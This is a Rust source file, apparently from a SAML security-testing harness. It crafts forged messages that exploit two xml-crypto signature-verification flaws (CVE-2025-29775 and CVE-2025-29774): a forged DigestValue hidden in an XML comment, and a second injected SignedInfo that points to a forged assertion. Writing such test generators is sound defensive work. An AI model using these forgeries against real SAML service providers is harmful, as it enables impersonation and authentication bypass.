//! Attacks on what a verifier reads from the SignedInfo (saml-attacks.md §1.6, §1.12):
//! the SignatureValue is checked over one canonical form of the SignedInfo, while a
//! careless library takes the DigestValue or the References from somewhere else.

use super::{Crafted, Ctx};
use crate::message::{self, Signing};
use crate::splice;
use crate::CraftError;
use trust_framework::saml::constants::NS_DSIG;

/// The text of the first `ds:DigestValue` of `xml`.
fn digest_value(xml: &str) -> Result<String, CraftError> {
    let r = splice::range(xml, NS_DSIG, "DigestValue", None)?;
    let element = &xml[r];
    let start = splice::after_start_tag(element, 0)?;
    let end = splice::before_end_tag(element)?;
    Ok(element[start..end].to_owned())
}

/// xml-crypto CVE-2025-29775 (fixture `test/static/valid_saml_with_digest_comment.xml`,
/// node-saml/xml-crypto 8ac6118): the IdP's signed assertion with its NameID changed to
/// the forged identity, and its DigestValue written `<!--D_forged-->D_signed`. Exclusive
/// c14n of the SignedInfo drops the comment, so the SignatureValue still verifies; a
/// library that reads the DigestValue's first child reads the forged assertion's digest.
/// The Response is not signed (the assertion is what is signed).
pub fn digest_in_comment(c: &Ctx<'_>) -> Result<Crafted, CraftError> {
    let k = c.knobs();
    let spec = c.spec();
    let signed = message::signed_assertion(&k, &spec)?;
    // The forged assertion's digest: the same assertion (same ID, same instants) for the
    // forged identity, digested as the IdP would have.
    let mut forged_k = k.clone();
    forged_k.name_id_raw = trust_framework::saml::xml::escape(&c.forged);
    let forged_signed = message::signed_assertion(&forged_k, &spec)?;
    let (d_signed, d_forged) = (digest_value(&signed)?, digest_value(&forged_signed)?);
    let forged = splice::set_name_id(&signed, &forged_k.name_id_raw)?;
    let r = splice::range(&forged, NS_DSIG, "DigestValue", None)?;
    let value = format!("<ds:DigestValue><!--{d_forged}-->{d_signed}</ds:DigestValue>");
    let assertion = splice::replace(&forged, r, &value);
    let xml = message::wrap(&k, Signing::Assertion, &spec, &assertion)?;
    Ok(Crafted::of(xml).claiming(&c.forged))
}

/// xml-crypto CVE-2025-29774 (GHSA-9p8x-f768-wp2g): the IdP's signed assertion A stays in
/// the message (in a foreign element) without its Signature; a forged copy E (new ID,
/// forged identity) carries A's Signature, into which a second SignedInfo is put whose
/// one Reference names E with E's true digest: `wrapped` in a foreign element as the
/// Signature's first child, else as a sibling after the real SignedInfo. The
/// SignatureValue is A's, over the real SignedInfo; a library that takes References
/// from every SignedInfo validates E.
pub fn second_signed_info(c: &Ctx<'_>, wrapped: bool) -> Result<Crafted, CraftError> {
    let k = c.knobs();
    let spec = c.spec();
    let signed = message::signed_assertion(&k, &spec)?;
    let sig = splice::range(&signed, NS_DSIG, "Signature", None)?;
    let signature = signed[sig.clone()].to_owned();
    let clean = splice::replace(&signed, sig.clone(), "");
    // E: the same assertion for the forged identity under a new ID; its digest is what
    // the IdP's signing of E would have put in a Reference to it.
    let mut ek = k.clone();
    ek.assertion_id = message::new_id();
    ek.name_id_raw = trust_framework::saml::xml::escape(&c.forged);
    let e_signed = message::signed_assertion(&ek, &spec)?;
    let e_digest = digest_value(&e_signed)?;
    let reference = format!(
        concat!(
            r##"<ds:Reference URI="#{id}"><ds:Transforms>"##,
            r#"<ds:Transform Algorithm="{env}"/><ds:Transform Algorithm="{c14n}"/></ds:Transforms>"#,
            r#"<ds:DigestMethod Algorithm="{sha256}"/><ds:DigestValue>{d}</ds:DigestValue></ds:Reference>"#
        ),
        id = ek.assertion_id,
        env = trust_framework::saml::constants::ALG_ENVELOPED,
        c14n = trust_framework::saml::constants::ALG_EXC_C14N,
        sha256 = trust_framework::saml::constants::ALG_SHA256,
        d = e_digest,
    );
    let extra = format!("<ds:SignedInfo>{reference}</ds:SignedInfo>");
    let signature = if wrapped {
        let at = splice::after_start_tag(&signature, 0)?;
        splice::insert(&signature, at, &format!("<WRAPPER>{extra}</WRAPPER>"))
    } else {
        let info = splice::range(&signature, NS_DSIG, "SignedInfo", None)?;
        splice::insert(&signature, info.end, &extra)
    };
    // E carries the Signature where A had it (right after its Issuer).
    let e_plain = message::assertion(&ek, "");
    let at = e_plain
        .find("</saml:Issuer>")
        .map(|i| i + "</saml:Issuer>".len())
        .ok_or_else(|| CraftError("no Issuer".into()))?;
    let e = splice::insert(&e_plain, at, &signature);
    let xml = message::wrap(&k, Signing::Assertion, &spec, &format!("{e}<a>{clean}</a>"))?;
    Ok(Crafted::of(xml).claiming(&c.forged))
}
